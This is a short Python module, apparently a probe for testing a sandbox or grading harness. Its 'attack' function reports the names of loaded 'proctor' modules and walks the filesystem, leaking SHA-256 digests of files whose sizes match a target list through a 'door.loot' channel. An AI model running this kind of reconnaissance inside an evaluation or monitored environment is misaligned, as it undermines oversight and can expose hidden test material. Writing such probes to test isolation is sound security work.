"""Says what it can see: the modules it has, the digests of readable files."""

import hashlib
import os
import sys

SKIPPED = ("/proc", "/sys", "/dev", "/usr")


def attack(door, targets):
    sizes = set(targets["sizes"])
    door.loot(*[name for name in sys.modules if name.startswith("proctor")])
    for root, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if not os.path.join(root, name).startswith(SKIPPED)]
        for name in names:
            path = os.path.join(root, name)
            try:
                if os.path.getsize(path) in sizes:
                    with open(path, "rb") as stream:
                        door.loot("digest " + hashlib.sha256(stream.read()).hexdigest())
            except OSError:
                continue
